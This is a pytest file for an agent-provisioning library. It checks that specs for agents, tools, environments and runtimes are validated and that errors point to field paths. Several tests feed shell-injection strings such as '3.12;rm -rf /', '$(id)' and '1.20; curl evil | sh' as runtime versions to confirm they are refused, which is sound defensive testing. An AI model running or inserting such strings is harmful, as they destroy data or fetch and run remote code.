"""AgentSpec, EnvironmentSpec, Runtime: validation with field paths, plain data, coercion (V-1, V-3, V-5)."""

from __future__ import annotations

from typing import Any

import pytest
from returns.result import Failure, Success

from rma.provisioning import AgentSpec, EnvironmentSpec, InvalidSpec, Runtime, SpecError, ToolSchema

LOOKUP: dict[str, Any] = {
    "name": "lookup_customer",
    "description": "Fetch a customer row",
    "input_schema": {"type": "object", "properties": {"id": {"type": "string"}}, "required": ["id"]},
}
FINISH: dict[str, Any] = {
    "name": "finish",
    "description": "Report the result",
    "input_schema": {"type": "object", "properties": {"summary": {"type": "string"}}},
}


def _error(result: object) -> InvalidSpec:
    assert isinstance(result, Failure), result
    error = result.failure()
    assert isinstance(error, InvalidSpec)
    return error


# --- AgentSpec ------------------------------------------------------------------------------


def test_V1_a_minimal_spec_needs_only_a_name_and_takes_the_defaults() -> None:
    spec = AgentSpec.create("bot").unwrap()
    assert spec == AgentSpec(name="bot")
    assert (spec.system_prompt, spec.tools, spec.terminal_tool, spec.model_config) == (None, (), None, None)


@pytest.mark.parametrize("name", [None, "", 3, b"bot", "a:b", "line\nbreak", "nul\x00", "lone\ud800"])
def test_V1_the_name_is_required_as_a_clean_string(name: object) -> None:
    error = _error(AgentSpec.create(name))
    assert (error.spec, error.path) == ("agent", "name")


def test_a_tool_mapping_becomes_a_plain_tool_schema() -> None:
    spec = AgentSpec.create(
        "bot", tools=[LOOKUP, {**FINISH, "type": "custom"}], terminal_tool="finish"
    ).unwrap()
    assert spec.tools == (
        ToolSchema(
            name="lookup_customer", description="Fetch a customer row", input_schema=LOOKUP["input_schema"]
        ),
        ToolSchema(name="finish", description="Report the result", input_schema=FINISH["input_schema"]),
    )
    assert spec.terminal_tool == "finish"


def test_a_tool_object_is_read_for_its_schema_and_its_code_is_dropped() -> None:
    class Lookup:
        name = "lookup_customer"
        description = "Fetch a customer row"
        input_schema = LOOKUP["input_schema"]

        def __call__(self, **kwargs: object) -> str:
            return "row"

    spec = AgentSpec.create("bot", tools=[Lookup()]).unwrap()
    assert spec.tools == AgentSpec.create("bot", tools=[LOOKUP]).unwrap().tools
    assert type(spec.tools[0]) is ToolSchema


def test_mutating_what_was_passed_in_never_changes_the_spec_or_its_digest() -> None:
    schema = {"type": "object", "properties": {"q": {"type": "string"}}}
    config = {"model": "m", "params": [1, 2]}
    spec = AgentSpec.create(
        "bot", tools=[{"name": "q", "description": "d", "input_schema": schema}], model_config=config
    ).unwrap()
    before = spec.digest
    schema["properties"]["q"]["type"] = "integer"  # type: ignore[index]
    config["params"].append(3)  # type: ignore[attr-defined]
    assert spec.digest == before
    assert spec.tools[0].input_schema["properties"]["q"]["type"] == "string"
    assert spec.model_config == {"model": "m", "params": [1, 2]}


@pytest.mark.parametrize(
    ("tools", "path"),
    [
        ("not a list", "tools"),
        ({"name": "x"}, "tools"),
        ([LOOKUP, FINISH, {**FINISH, "name": "third", "input_schema": "object"}], "tools[2].input_schema"),
        ([{**LOOKUP, "input_schema": {"type": "string"}}], "tools[0].input_schema.type"),
        (
            [{**LOOKUP, "input_schema": {"type": "object", "default": float("nan")}}],
            "tools[0].input_schema.default",
        ),
        ([LOOKUP, {**LOOKUP, "name": "bad name"}], "tools[1].name"),
        ([LOOKUP, LOOKUP], "tools[1].name"),
        ([{"name": "x", "input_schema": {"type": "object"}}], "tools[0].description"),
        ([{**LOOKUP, "description": ""}], "tools[0].description"),
        ([{"name": "x", "description": "d"}], "tools[0].input_schema"),
        ([{**LOOKUP, "parameters": {}}], "tools[0].parameters"),
        ([{**LOOKUP, "type": "agent_toolset_20260401"}], "tools[0].type"),
        ([42], "tools[0]"),
        ([{**LOOKUP, "name": "x" * 65}], "tools[0].name"),
    ],
)
def test_a_bad_tool_is_named_by_its_path(tools: object, path: str) -> None:
    assert _error(AgentSpec.create("bot", tools=tools)).path == path


def test_the_terminal_tool_must_be_one_of_the_tools() -> None:
    assert _error(AgentSpec.create("bot", tools=[LOOKUP], terminal_tool="finish")).path == "terminal_tool"
    assert _error(AgentSpec.create("bot", terminal_tool="finish")).path == "terminal_tool"


@pytest.mark.parametrize(
    ("model_config", "path"),
    [
        ({"model": "m", "temperature": float("nan")}, "model_config.temperature"),
        ({"model": "m", "stop": {"a", "b"}}, "model_config.stop"),
        ({"model": "m", 1: "int key"}, "model_config"),
        ({"model": "m", "top k": float("inf")}, 'model_config["top k"]'),
        (object(), "model_config"),
    ],
)
def test_model_config_must_be_json_and_the_error_names_the_key(model_config: object, path: str) -> None:
    assert _error(AgentSpec.create("bot", model_config=model_config)).path == path


def test_model_config_is_kept_verbatim_whatever_its_json_shape() -> None:
    for config in ("claude-sonnet-4-6", {"bedrockModelConfig": {"modelId": "us.anthropic.x"}}, None, 7):
        assert AgentSpec.create("bot", model_config=config).unwrap().model_config == config


def test_system_prompt_is_a_string_or_none() -> None:
    assert _error(AgentSpec.create("bot", system_prompt=["a"])).path == "system_prompt"
    assert AgentSpec.create("bot", system_prompt="be brief").unwrap().system_prompt == "be brief"


def test_coerce_accepts_a_spec_or_a_mapping_and_refuses_unknown_fields() -> None:
    spec = AgentSpec.create("bot", system_prompt="p", tools=[LOOKUP]).unwrap()
    assert AgentSpec.coerce(spec) == Success(spec)
    assert AgentSpec.coerce({"name": "bot", "system_prompt": "p", "tools": [LOOKUP]}) == Success(spec)
    assert _error(AgentSpec.coerce({"name": "bot", "modle_config": "m"})).path == "modle_config"
    assert _error(AgentSpec.coerce({"system_prompt": "p"})).path == "name"
    assert _error(AgentSpec.coerce(["bot"])).path == ""


def test_to_json_round_trips_through_coerce() -> None:
    spec = AgentSpec.create("bot", system_prompt="p", tools=[LOOKUP, FINISH], terminal_tool="finish").unwrap()
    assert AgentSpec.coerce(spec.to_json()) == Success(spec)


def test_the_constructor_refuses_what_create_would_refuse() -> None:
    with pytest.raises(SpecError) as raised:
        AgentSpec(name="")
    assert raised.value.error.path == "name"
    with pytest.raises(SpecError):
        AgentSpec(name="bot", tools=[LOOKUP])  # type: ignore[arg-type]  # not ToolSchema values
    with pytest.raises(SpecError):
        AgentSpec(name="bot", terminal_tool="finish")


def test_invalid_spec_is_a_value_with_a_readable_message() -> None:
    error = _error(AgentSpec.create("bot", tools=[{**LOOKUP, "input_schema": 1}]))
    assert error.kind == "invalid_spec"
    assert error.message == "invalid agent spec at tools[0].input_schema: a JSON schema object is required"
    assert str(error) == f"invalid_spec: {error.message}"


# --- EnvironmentSpec and Runtime ------------------------------------------------------------


def test_V3_an_environment_defaults_to_no_name_no_config_no_runtimes() -> None:
    env = EnvironmentSpec.create().unwrap()
    assert (env.name, env.config, env.runtimes, env.is_empty) == (None, {}, (), True)


def test_V3_coerce_collects_top_level_keys_into_config_and_an_explicit_config_wins() -> None:
    env = EnvironmentSpec.coerce(
        {
            "name": "data",
            "type": "cloud",
            "networking": {"type": "unrestricted"},
            "config": {"networking": {"type": "limited", "allowed_hosts": []}},
            "runtimes": [{"lang": "python", "version": "3.12"}],
        }
    ).unwrap()
    assert env.name == "data"
    assert env.config == {"type": "cloud", "networking": {"type": "limited", "allowed_hosts": []}}
    assert env.runtimes == (Runtime(lang="python", version="3.12"),)


def test_V3_none_is_no_environment_only_where_optional() -> None:
    assert EnvironmentSpec.coerce_optional(None) == Success(None)
    assert _error(EnvironmentSpec.coerce(None)).spec == "environment"
    assert _error(EnvironmentSpec.coerce("cloud")).path == ""


def test_config_is_kept_verbatim_including_key_order() -> None:
    config = {"z": 1, "a": {"y": [1, 2], "b": None}}
    env = EnvironmentSpec.create(config=config).unwrap()
    assert env.config == config
    assert list(env.config) == ["z", "a"]


@pytest.mark.parametrize(
    ("kwargs", "path"),
    [
        ({"config": ["not", "an", "object"]}, "config"),
        ({"config": {"networking": {"allowed_hosts": [float("nan")]}}}, "config.networking.allowed_hosts[0]"),
        ({"name": "a:b"}, "name"),
        ({"name": ""}, "name"),
        ({"runtimes": "python@3.12"}, "runtimes"),
        ({"runtimes": [{"lang": "python"}]}, "runtimes[0].version"),
        ({"runtimes": [{"lang": "python", "version": "3.12", "via": "asdf"}]}, "runtimes[0].via"),
        ({"runtimes": [{"lang": "python", "version": "3", "extra": 1}]}, "runtimes[0].extra"),
        (
            {"runtimes": [{"lang": "node", "version": "22"}, {"lang": "node", "version": "20"}]},
            "runtimes[1].lang",
        ),
        ({"runtimes": [7]}, "runtimes[0]"),
    ],
)
def test_a_bad_environment_is_named_by_its_path(kwargs: dict[str, Any], path: str) -> None:
    error = _error(EnvironmentSpec.create(**kwargs))
    assert (error.spec, error.path) == ("environment", path)


@pytest.mark.parametrize(
    "version",
    [
        "",
        "3.12 ",
        " 3.12",
        "3.12;rm -rf /",
        "$(id)",
        "`id`",
        "3'",
        '3"',
        "3\n",
        "3.12\nrm",
        "-rc1",
        ".1",
        "a|b",
        "a&b",
        "a>b",
        "x" * 65,
        "١٢",
        "3.12\x00",
        "~1",
        "*",
    ],
)
def test_V5_runtime_versions_that_could_inject_shell_are_refused(version: str) -> None:
    error = _error(EnvironmentSpec.create(runtimes=[{"lang": "python", "version": version}]))
    assert error.path == "runtimes[0].version"


@pytest.mark.parametrize(
    "lang", ["", "Python", "-node", "node js", "node;", "py$", "a" * 65, "nöde", 3, None]
)
def test_V5_runtime_languages_are_held_to_a_strict_pattern(lang: object) -> None:
    assert (
        _error(EnvironmentSpec.create(runtimes=[{"lang": lang, "version": "1"}])).path == "runtimes[0].lang"
    )


@pytest.mark.parametrize(
    "version", ["3.12", "1.20.2-otp-27", "22.3.0", "2.0.0-rc.1", "1.0+build.5", "latest", "lts"]
)
def test_V5_ordinary_versions_are_accepted(version: str) -> None:
    runtime = Runtime.create("python", version).unwrap()
    assert runtime.mise_spec == f"python@{version}"
    assert runtime.via == "mise"


def test_runtime_objects_are_accepted_and_revalidated() -> None:
    runtime = Runtime(lang="elixir", version="1.20.2")
    env = EnvironmentSpec.create(
        runtimes=[runtime, {"lang": "erlang", "version": "28.1", "via": "mise"}]
    ).unwrap()
    assert env.runtimes == (runtime, Runtime(lang="erlang", version="28.1"))
    with pytest.raises(SpecError) as raised:
        Runtime(lang="elixir", version="1.20; curl evil | sh")
    assert raised.value.error.path == "version"
    assert _error(Runtime.create("elixir", "1", via="apt")).path == "via"


def test_environment_to_json_round_trips_and_the_constructor_validates() -> None:
    env = EnvironmentSpec.create(
        "data", config={"type": "cloud"}, runtimes=[{"lang": "node", "version": "22"}]
    ).unwrap()
    assert EnvironmentSpec.coerce(env.to_json()) == Success(env)
    assert EnvironmentSpec.coerce(env) == Success(env)
    assert not env.is_empty
    with pytest.raises(SpecError):
        EnvironmentSpec(config={"x": float("inf")})
